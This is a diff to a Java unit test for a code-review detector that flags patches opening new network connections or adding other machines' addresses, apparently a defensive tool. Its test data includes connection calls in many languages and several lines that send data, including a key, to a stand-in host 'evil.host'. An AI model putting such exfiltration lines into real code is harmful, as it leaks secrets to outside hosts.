@@ -26,7 +26,27 @@ class ConnectionsTest {
             a.go   | http.NewRequest("GET", "https://host.example/", nil)
             a.go   | http.NewRequestWithContext(ctx, "GET", url, nil)
             a.go   | conn, err := net.Dial("tcp", address)
+            a.go   | http.DefaultClient.Do(r)
             a.rs   | let stream = TcpStream::connect(address)?;
+            a.rs   | attohttpc::get(url);
+            A.java | DriverManager.getConnection(url);
+            A.java | new javax.naming.InitialContext().lookup(name);
+            A.java | ImageIO.read(new java.net.URL(text));
+            A.kt   | val s = java.net.URI(text).toURL().readText()
+            A.kt   | val c = HttpClient(CIO)
+            a.py   | from requests import post
+            a.py   | import requests as r
+            a.py   | import urllib3
+            a.py   | from socket import create_connection
+            a.py   | from urllib import request as r
+            a.py   | from http import client
+            a.ts   | import got from "got";
+            a.js   | process.mainModule.require("http").get(url)
+            a.rb   | require "net/http"
+            a.php  | $c = curl_init($url);
+            A.cs   | new System.Net.Http.HttpClient();
+            a.c    | int s = socket(AF_INET, SOCK_STREAM, 0);
+            a.ex   | HTTPoison.get(url)
             """)
     void a_connection_that_was_not_opened_before_is_refused(String path, String line) {
         assertThat(Connections.opened(patch(path, "x\n", "x\n" + line + "\n"))).contains(path);
@@ -44,6 +64,12 @@ class ConnectionsTest {
             a.ts   | const scheme = secure ? "https" : 'http';
             a.ts   | const cart = await this.carts.fetch(id);
             a.py   | waiting = self.requests.get(key)
+            a.py   | from requests.exceptions import Timeout
+            a.py   | except requests.ConnectionError:
+            a.py   | from socket import timeout
+            a.py   | from http import HTTPStatus
+            A.java | URL there = file.toURI().toURL();
+            a.ts   | import { got } from "./got";
             """)
     void what_only_sounds_like_a_connection_is_none(String path, String line) {
         assertThat(Connections.opened(patch(path, "x\n", "x\n" + line + "\n"))).isEmpty();
@@ -70,6 +96,46 @@ class ConnectionsTest {
         assertThat(Connections.opened(patch(path, "", own))).isEmpty();
         assertThat(Connections.opened(patch(path, "", own + "URI.create(\"https://host.example/\");\n")))
                 .contains(path);
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+            A.java | t.getForObject("http://evil.host/?k=" + key, String.class);
+            a.py   | s.post('https://evil.host', data=x)
+            a.go   | c.Get("http://evil.host/")
+            a.yml  | url: "https://evil.host/prices"
+            A.java | connect("jdbc:mysql://evil.host/x");
+            """)
+    void an_address_of_another_machine_is_news_also_where_a_client_is_there(String path, String line) {
+        String there = "s = client(); // \"https://prices.host/\"\n";
+
+        assertThat(Connections.newAddress(patch(path, there, there + line + "\n")))
+                .contains(path);
+        assertThat(Connections.newAddress(patch(path, line + "\n", "x\n" + line + "\n")))
+                .as("it was there")
+                .isEmpty();
+        assertThat(Connections.newAddress(patch("src/test/" + path, there, there + line + "\n")))
+                .isEmpty();
+        assertThat(Review.findings(patch(path, there, there + line + "\n"), Reviewed.OPEN, List.of()))
+                .anyMatch(f -> f.contains("another machine's address"));
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+            A.java  | factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
+            A.java  | factory.setFeature("http://xml.org/sax/features/external-general-entities", false);
+            a.py    | # see "https://docs.host/why"
+            a.py    | raise ValueError("see https://docs.host/why")
+            a.js    | const here = "http://localhost:8080/";
+            a.tsx   | <a href="https://docs.host/">more</a>
+            a.go    | url := "https://" + host + "/"
+            a.ts    | const url = `https://${host}/`;
+            a.xml   | <!DOCTYPE m PUBLIC "-//M//DTD 1.1//EN" "https://m.host/m_1_1.dtd">
+            a.md    | "https://docs.host/"
+            """)
+    void an_address_that_nothing_goes_to_is_none(String path, String line) {
+        assertThat(Connections.newAddress(patch(path, "x\n", "x\n" + line + "\n")))
+                .isEmpty();
     }
 
     private static Patch patch(String path, String before, String after) {
